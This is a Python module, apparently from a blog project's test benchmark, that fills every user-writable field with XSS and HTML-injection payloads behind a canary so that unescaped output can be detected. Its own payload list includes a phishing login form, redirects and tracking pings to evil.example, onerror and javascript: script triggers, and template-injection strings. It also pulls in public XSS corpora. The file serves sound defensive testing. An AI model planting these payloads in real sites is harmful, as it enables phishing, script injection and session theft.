"""A blog in which every word that anybody may choose is an attack: what `benchmarks.attacks` opens in a browser.

The attacks are rows, written past the forms, so that no form's refusal hides a page that would not hold. Many go into
one field, each field's words behind a canary: an element and an attribute that come to be only where words are taken
for HTML.
"""

import json
from collections.abc import Iterable, Iterator
from datetime import timedelta
from itertools import count, cycle
from pathlib import Path
from typing import Any
from urllib.parse import quote
from uuid import uuid4

from blog.database import db, utcnow
from blog.models import (
    Kept,
    LoginSession,
    Media,
    Missing,
    Post,
    PostKind,
    PreviewLink,
    Redirect,
    Review,
    ReviewComment,
    Shows,
    Tag,
    User,
    UserRole,
    WorkingCopy,
    record,
)

CANARY = """<i class=canary></i>'" data-canary="""
LONGEST = 190  # of a title, with its canary
IN_A_BODY = 60
PICTURE = "/media/ab/ab{:030x}-4x3.png"
OWN = [
    '<p id="body">x</p><a name="forms">x</a><p id="title">x</p><p id="site-main">x</p><p id="cookie">x</p>',
    '<form action="https://evil.example/"><input name="attributes"><button>Sign in again</button></form>',
    '<div style="position:fixed;inset:0;z-index:9">x</div><style>body{display:none}</style>',
    '<button popovertarget="p">x</button><div popover id="p">x</div><dialog open>x</dialog>',
    '<button commandfor="p" command="show-modal">x</button>',
    '<a href="/auth/logout" target="opener" ping="//evil.example">x</a>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css"><link rel="prefetch" href="https://evil.example/">',
    '<img src="https://evil.example/x.png" srcset="https://evil.example/2.png 2x" onerror="alert(1)">',
    "![x](https://evil.example/x.png) [x](javascript:alert(1)) <javascript:alert(1)> [x]: data:text/html,x",
    '<table background="https://evil.example/"><td background="//evil.example"></table><video src="//evil.example">',
    "# Body\n\n## Title\n\n## Summary\n\n## Site main\n\n## Csrf token",
    '<div role="region" aria-label="x" tabindex="0" class="scroll topbar">x</div><section class="panel">x</section>',
    "{{ config }}{% raw %}${alert(1)}#{alert(1)}",
    '<input type="checkbox" checked formaction="https://evil.example" name="csrf_token" form="f">',
]  # fmt: skip


def collected(corpora: Path) -> list[str]:
    """The attacks of the public collections, and some of our own."""
    found = list(OWN)
    found += (corpora / "xss-payloadbox/payloads.txt").read_text(errors="replace").splitlines()
    found += [case["payload"] for case in json.loads((corpora / "xss-dompurify/expect.json").read_text())]
    found += json.loads((corpora / "xss-bleach/strings.json").read_text())
    found += [case["input"] for case in json.loads((corpora / "xss-bleach/data-tests.json").read_text())]
    found += json.loads((corpora / "blns/blns.json").read_text())
    for name in ("commonmark-0.31.2-spec", "gfm-0.29-extensions"):
        found += [case["markdown"] for case in json.loads((corpora / f"markdown-spec/{name}.json").read_text())]
    words = [one if isinstance(one, str) else json.dumps(one) for one in found]
    return [one.replace("\0", "\ufffd").encode("utf-8", "replace").decode() for one in words if one.strip()]


def packed(attacks: Iterable[str], most: int) -> Iterator[str]:
    """The attacks, several to a field behind one canary. One that is longer than a field has a field of its own."""
    line = CANARY
    for attack in attacks:
        attack = " ".join(attack.split())
        if line != CANARY and len(line) + len(attack) >= most:
            yield line
            line = CANARY
        line += f" {attack}"
    yield line


class Planted:
    """The rows, and where they show."""

    def __init__(self, attacks: list[str]) -> None:
        self.attacks = attacks
        self.titles = list(packed(attacks, LONGEST))
        self.names = cycle(packed(attacks, 118))
        self.longer = cycle(packed(attacks, 290))
        self.words = cycle(packed(attacks, 1_900))
        self.tags, self.blocks = cycle(attacks), cycle(attacks)
        self.number = count(1)
        self.pages: list[str] = []  # of readers, one for each title
        self.desk: list[tuple[str, ...]] = []  # of the desk, all those of one post
        self.used: dict[str, int] = {}
        self.admin = self.person(UserRole.admin, email="admin@example.com", handle="admin")

    def take(self, kind: str, words: Any) -> str:
        self.used[kind] = self.used.get(kind, 0) + 1
        return str(next(words))

    def person(self, role: UserRole, **fields: Any) -> User:
        n = next(self.number)
        name = self.take("name", self.names)
        person = User(
            **{
                "email": f"{name.lower()[:200]}{n}@example.com",
                "handle": f"{name}-{n}"[:60] if n % 8 == 0 else f"person-{n}",
                "name": name[:120],
                "biography": self.take("biography", self.words)[:2000],
                "website": f"https://example.com/?{name}"[:300],
                "picture": "",
                "role": role,
            }
            | fields
        )
        db.session.add(person)
        return person

    def picture(self) -> Media:
        n = next(self.number)
        name = PICTURE.format(n).removeprefix("/media/")
        alt, file_name = self.take("alt text", self.longer)[:500], self.take("file name", self.longer)[:200]
        one = Media(name=name, media_type="image/png", width=4, height=3, size=5, alt=alt, file_name=file_name)
        one.owner = self.admin
        db.session.add(one)
        return one

    def body(self, room: int) -> str:
        """The next so many attacks, each a block of its own."""
        parts = [self.take("in a body", self.blocks) for _ in range(room)]
        own = self.picture()
        parts.append(f"![{self.take('alt text in a body', self.longer)}]({own.address} '{parts[0][:80]}')")
        return "\n\n".join(parts)

    def post(self, n: int, title: str, room: int) -> Post:
        author, other = self.person(UserRole.editor), self.person(UserRole.editor)
        slug = f"{title[:100]}-{n}" if n % 8 == 0 else f"post-{n}"
        post = Post.start(
            author, by=author, title=title[:200], slug=slug, body=self.body(room), summary=title[:300],
            tags=[self.take("tag", self.tags)[:60].strip() or "tag" for _ in range(4)], cover=self.picture().address,
            cover_alt=self.take("alt text of a cover", self.longer)[:500],
            search_title=title[:200], search_description=self.take("search description", self.longer)[:300],
            canonical_url=f"https://example.com/?{title}"[:500] if n % 2 else "",
            published_at=utcnow() - timedelta(minutes=n + 1), featured=n == 0,
        )  # fmt: skip
        post.co_authors.append(other)
        self.pages.append(post.path)
        record("failed to sign in as", by=author, subject=title, about=other, before=title, after={"x": title})
        Missing.count(f"/{title}"[:500], 1, f"https://example.com/{title}"[:500], utcnow())
        redirect = Redirect.add(f"/{n}/{title}"[:500], to=f"/to/{title}"[:500], by=self.admin)
        db.session.add(redirect)
        LoginSession.start(author, agent=title, origin=title)
        return post

    def work_on(self, post: Post) -> None:
        """What the desk has of a post: an older revision, what waits, a working copy, a review, a preview link."""
        newer = {"title": f"{CANARY} {post.title}"[:200], "body": f"{post.body}\n\nMore."}
        post.revise(base=post.revision, by=self.admin, waits=True, **newer)
        typed = {"title": post.title, "body": post.body, "tags": post.title, "summary": post.title, "slug": post.title}
        WorkingCopy.keep(uuid4(), post, self.admin, base=1, seq=1, typed=typed | {"cover_alt": post.title})
        db.session.flush()
        review = Review.ask(post, self.admin, by=post.author, note=self.take("note to a reviewer", self.words)[:2000])
        assert review
        for paragraph in range(1, 9):
            words, passage = self.take("comment beside a passage", self.words), self.take("passage", self.longer)
            said = ReviewComment(uid=uuid4(), review_id=review.id, by=post.author, words=words[:2000])
            said.paragraph, said.quote = paragraph, passage[:500]
            db.session.add(said)
        secret = PreviewLink.make(post, Shows.saved, days=5, by=self.admin, uid=uuid4())
        LoginSession.start(self.admin, agent=post.title, origin=post.title)
        db.session.flush()
        Kept.keep(post, by=self.admin)
        base = f"/write/posts/{post.id}"
        tag = db.session.get(Tag, post.tags[0].id)
        below = ("/preview", "/revisions", "/revisions/1", "/revisions/2", "/comparison?from=1&to=2", "/reviews")
        of_author = f"/authors/{quote(post.author.handle, safe='')}"
        beside = (f"{base}/preview-links", f"/write/reviews/{review.id}", f"/preview/{secret}", of_author,
                  f"{of_author}/feed.atom", f"/admin/users/{post.author_id}", f"/write/media/{post.id}",
                  f"/tags/{tag.slug if tag else ''}", f"/admin/redirects/{post.id}",
                  f"{quote(post.path)}.md")  # fmt: skip
        self.desk.append((base, *(base + path for path in below), *beside))


def planted(attacks: list[str], *, desk_every: int, full_every: int = 1, room: int = IN_A_BODY) -> Planted:
    """Write it all. Each so-manieth post has a long body, and another so-manieth all that the desk can have of it."""
    blog = Planted(attacks)
    db.session.flush()
    for n, title in enumerate(blog.titles):
        is_full = n % full_every == 0 or n % desk_every == 0
        post = blog.post(n, title, room if is_full else 2)
        if n % desk_every == 0:
            db.session.flush()
            blog.work_on(post)
        if n % 100 == 0:
            db.session.commit()
    page = Post.start(blog.admin, by=blog.admin, kind=PostKind.page, slug="about", title=blog.titles[0][:200],
                      body="\n\n".join(attacks[:room]), published_at=utcnow())  # fmt: skip
    blog.pages.append(page.path)
    db.session.commit()
    return blog
